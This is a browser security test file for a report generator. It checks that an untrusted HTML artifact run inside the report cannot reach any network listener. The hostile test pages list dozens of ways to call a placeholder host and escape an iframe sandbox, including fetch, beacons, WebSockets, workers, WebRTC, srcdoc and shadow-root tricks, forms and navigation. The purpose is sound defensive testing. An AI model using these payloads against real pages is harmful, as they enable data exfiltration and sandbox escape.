"""An artifact that runs within the report reaches no listener: from disk and from a server."""
# ruff: noqa: E501 - pages, not code

import functools
import threading
from collections.abc import Iterator
from contextlib import ExitStack
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from pytest_cookie.records.run import RunFolder
from tests.browser.hostile.canary import Canary
from tests.item_pages import write_item_pages
from tests.synthetic_run import write_synthetic_run

# each way on its own, so that one which is refused does not keep the others from being tried
HOSTILE = """<!doctype html><html><head><title>Tries</title>
<link rel="dns-prefetch" href="http://CANARY/a"><link rel="preconnect" href="http://CANARY/b">
<link rel="prefetch" href="http://CANARY/c"><link rel="preload" as="script" href="http://CANARY/d">
<link rel="modulepreload" href="http://CANARY/e"><link rel="stylesheet" href="http://CANARY/f">
<link rel="icon" href="http://CANARY/g"><link rel="manifest" href="http://CANARY/h">
<style>@import "http://CANARY/i"; @font-face { font-family: x; src: url(http://CANARY/j) }
body { background: url(http://CANARY/k); font-family: x }</style>
<script src="http://CANARY/l"></script>
<script type="speculationrules">{"prefetch": [{"urls": ["http://CANARY/m"]}],
"prerender": [{"urls": ["http://CANARY/n"]}]}</script>
</head><body><h1>An artifact</h1><p id="posted">waits</p>
<img src="http://CANARY/o" srcset="http://CANARY/p 2x"><video src="http://CANARY/q" poster="http://CANARY/r"></video>
<audio src="http://CANARY/s" autoplay></audio><iframe src="http://CANARY/t"></iframe><embed src="http://CANARY/u">
<object data="http://CANARY/v"></object><svg><use href="http://CANARY/w#x"/><image href="http://CANARY/x"/></svg>
<form id="form" action="http://CANARY/form" method="post"><input name="a" value="b"></form>
<form id="blank" action="http://CANARY/blank" target="_blank"><input name="a"></form>
<a id="link" href="http://CANARY/link" ping="http://CANARY/ping">go</a>
<a id="other" href="http://CANARY/other" target="_blank">go</a>
<script src="beside.js"></script>
<script>
const url = "http://CANARY/script", ws = "ws://CANARY/ws";
const CALLING = "<script>new RTCPeerConnection({iceServers:[{urls:\\"stun:CANARY_UDP\\"}]}).createDataChannel(1)<\\/script>" +
  "<script>const p=new RTCPeerConnection({iceServers:[{urls:\\"stun:CANARY_UDP\\"}]});p.createDataChannel(1);" +
  "p.createOffer().then(o=>p.setLocalDescription(o))<\\/script>";
const framed = () => { const made = document.createElement("iframe"); document.body.append(made); return made };
const shadowed = (mode) => { const host = document.createElement("div"); document.body.append(host);
  const root = host.attachShadow({ mode }); root.innerHTML = `<iframe srcdoc='${CALLING}'></iframe>`;
  return root.firstChild.contentWindow };
const call = (where) => { const peer = new where.RTCPeerConnection({ iceServers: [{ urls: "stun:CANARY_UDP" }] });
  peer.createDataChannel("y"); return peer.createOffer().then(offer => peer.setLocalDescription(offer)) };
const preconnected = document.createElement("link");
const ways = [
  () => fetch(url, { mode: "no-cors" }), () => fetch(url, { keepalive: true }),
  () => { const x = new XMLHttpRequest(); x.open("GET", url); x.send() },
  () => new WebSocket(ws), () => new EventSource(url), () => navigator.sendBeacon(url, "x"),
  () => { new Image().src = url }, () => { new Audio(url).play() }, () => import(url),
  () => new Worker(url), () => new SharedWorker(url),
  () => new Worker(URL.createObjectURL(new Blob([`importScripts("${url}")`]))),
  () => new Worker(URL.createObjectURL(new Blob([`fetch("${url}", { mode: "no-cors" })`]))),
  () => new Worker(`data:text/javascript,importScripts("${url}")`),
  () => new Worker(`data:text/javascript,fetch("${url}",{mode:"no-cors"})`),
  () => navigator.serviceWorker.register(url), () => new WebTransport("https://CANARY/"),
  () => { preconnected.rel = "preconnect"; preconnected.href = "http://CANARY/"; document.head.append(preconnected) },
  () => call(self), () => call(framed().contentWindow), () => call(shadowed("open")), () => call(shadowed("closed")),
  () => framed().setAttribute("srcdoc", CALLING), () => { document.body.insertAdjacentHTML("beforeend",
    `<div><iframe srcdoc='${CALLING}'></iframe></div>`) }, () => document.write(`<iframe srcdoc='${CALLING}'></iframe>`),
  () => { NodeList.prototype.item = Element.prototype.remove = () => 0; framed().srcdoc = CALLING },
  () => { document.body.outerHTML += `<iframe srcdoc='${CALLING}'></iframe>` },
  () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:CANARY_UDP" },
    { urls: "turn:CANARY?transport=tcp", username: "a", credential: "b" }] });
    peer.createDataChannel("x"); peer.createOffer().then(o => peer.setLocalDescription(o)) },
  () => { const inner = document.createElement("iframe"); document.body.append(inner);
    inner.contentWindow.fetch(url, { mode: "no-cors" }) },
  () => { const inner = document.createElement("iframe"); inner.srcdoc = `<img src="${url}">`;
    document.body.append(inner) },
  () => { const inner = document.createElement("iframe"); document.body.append(inner);
    inner.contentWindow.location = url },
  () => { const inner = document.createElement("iframe"); inner.src = `data:text/html,<img src="${url}">`;
    document.body.append(inner) },
  () => window.open(url), () => window.open(url, "_top"), () => window.open(url, "_parent"),
  () => { top.location = url },
  () => { parent.location = url }, () => { top.location.href = url }, () => parent.postMessage(url, "*"),
  () => document.getElementById("blank").submit(), () => document.getElementById("other").click(),
  () => document.getElementById("form").submit(),
];
let tried = 0;
const next = async () => {
  if (tried === ways.length) { document.body.append(`tried ${tried}, beside ${self.beside}`)
    return }
  try { const made = ways[tried](); if (made && made.catch) made.catch(() => 0) } catch {}
  tried += 1; setTimeout(next, 50);
};
setTimeout(next, 300);
</script></body></html>"""
PAGE_2 = "<!doctype html><img src='http://CANARY/page2'>"
CALL = (
    'const p = new RTCPeerConnection({iceServers: [{urls: "stun:CANARY_UDP"}]}); p.createDataChannel("x");'
    "p.createOffer().then(o => p.setLocalDescription(o))"
)
LEAVING = {
    "refresh": "<meta http-equiv=refresh content='0;url=http://CANARY/'>",
    "address": "<script>location = 'http://CANARY/'</script>",
    "own address": "<script>location.replace('http://CANARY_OWN/')</script>",
    "link": "<a href='http://CANARY/' ping='http://CANARY/ping'>x</a><script>document.links[0].click()</script>",
    "form": "<form action='http://CANARY/'></form><script>document.forms[0].submit()</script>",
    "data": "<script>location = 'data:text/html,<img src=http://CANARY/>'</script>",
    "framed": "<iframe srcdoc='<script>" + CALL + "</script>'></iframe>",
    "in a closed root": "<div><template shadowrootmode=closed><iframe srcdoc='<script>"
    + CALL
    + "</script>'></iframe></template></div>",
    "blob": "<script>location = URL.createObjectURL(new Blob(['<img src=http://CANARY/>'], {type: 'text/html'}))</script>",
    "script address": "<script>location = 'javascript:\\'<img src=http://CANARY/>\\''</script>",
    "other page": "<script>location = 'page2.html'</script>",
    "itself": "<script>location = document.baseURI + 'page2.html'</script>",
    "opened": "<script>open('http://CANARY/', '_self')</script>",
    "written": "<script>document.open(); document.write('<img src=http://CANARY/>'); document.close()</script>",
    "history": "<script>parent.history.go(-1); location.reload()</script><img src='http://CANARY/'>",
}


@pytest.fixture(params=["file", "http"])
def opened(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[tuple[Path, str]]:
    """A run, and the address of its folder: on disk, and at a server on another port than the listeners'."""
    run = write_synthetic_run(tmp_path / "run")
    records = (run / "records.jsonl").read_text().splitlines(keepends=True)
    place = _item(run).relative_to(run).as_posix()  # pages of other items are of no use here
    (run / "records.jsonl").write_text("".join(line for line in records if f'"{place}"' in line))
    if request.param == "file":
        yield run, run.as_uri()
        return
    handler = functools.partial(_Quiet, directory=str(run))
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield run, f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    thread.join()


class _Quiet(SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:
        """No lines in the test's output."""


def test_nothing_that_runs_in_the_report_is_heard_anywhere(chromium: Browser, opened: tuple[Path, str]):
    run, address = opened
    with Canary() as canary:
        page = _running(chromium, run, address, canary.named_in(HOSTILE))
        inner = page.frame_locator("iframe").frame_locator("iframe")
        # from disk Chromium lets a frame without an origin load no files beside it
        loaded = "beside undefined" if address.startswith("file:") else "beside loaded"
        inner.get_by_text(loaded).wait_for()
        page.wait_for_timeout(1_000)  # for packets on their way; more time could only let more arrive
        assert canary.heard() == []
        assert page.url.startswith(address)
        assert page.url.endswith("index.html")
        assert len(page.context.pages) == 1
        page.close()


@pytest.mark.long
def test_nothing_that_leaves_its_frame_gets_anywhere(
    chromium: Browser, opened: tuple[Path, str], subtests: pytest.Subtests
):
    run, address = opened
    with ExitStack() as stack:
        pages = {}
        for way, html in LEAVING.items():
            canary = stack.enter_context(Canary())
            page = _running(chromium, run, address, canary.named_in(f"<!doctype html><h1>x</h1>{html}"), canary)
            pages[way] = page, canary
        page.wait_for_timeout(700)
        for way, (page, canary) in pages.items():
            with subtests.test(way=way):
                assert canary.heard() == []
                assert page.url.startswith(address)
                assert len(page.context.pages) == 1
            page.close()


def test_links_within_the_page_work(chromium: Browser, opened: tuple[Path, str]):
    run, address = opened
    html = "<!doctype html><a href='#end'>Down</a><p style='height:4000px'></p><h2 id=end>The end</h2>"
    page = _running(chromium, run, address, html)
    inner = page.frame_locator("iframe").frame_locator("iframe")
    inner.get_by_role("link", name="Down").click()
    frame = page.frames[2]
    frame.wait_for_function("() => scrollY > 1000")
    assert frame.evaluate("document.compatMode") == "CSS1Compat"
    page.close()


def test_the_listeners_hear_the_same_page_without_these_frames(chromium: Browser, tmp_path: Path):
    """Else the silence would be no proof: in a sandboxed frame alone, all of these tries arrive."""
    with Canary() as canary:
        (tmp_path / "page.html").write_text(canary.named_in(HOSTILE))
        (tmp_path / "index.html").write_text("<!doctype html><iframe sandbox=allow-scripts src=page.html></iframe>")
        page = chromium.new_page()
        page.goto((tmp_path / "index.html").as_uri(), wait_until="commit")
        heard: list[str] = []
        for _ in range(100):
            page.wait_for_timeout(100)
            heard += canary.heard()
            if heard:
                break
        assert heard
        page.close()


def _item(run: Path) -> Path:
    return next(path.parent for path in sorted(run.glob("items/moth*/*/*/*/artifact")))


def _running(chromium: Browser, run: Path, address: str, html: str, canary: Canary | None = None) -> Page:
    """The page of an item whose artifact is `html`, after its button was pressed."""
    item = _item(run)
    (item / "artifact" / "index.html").write_text(html)
    (item / "artifact" / "beside.js").write_text("self.beside = 'loaded'")
    if canary:
        (item / "artifact" / "page2.html").write_text(canary.named_in(PAGE_2))
    write_item_pages(RunFolder(run))
    page = chromium.new_page()
    page.goto(f"{address}/{item.relative_to(run).as_posix()}/index.html")
    assert canary is None or canary.heard() == []
    page.get_by_role("button", name="Run the artifact here").click()
    return page
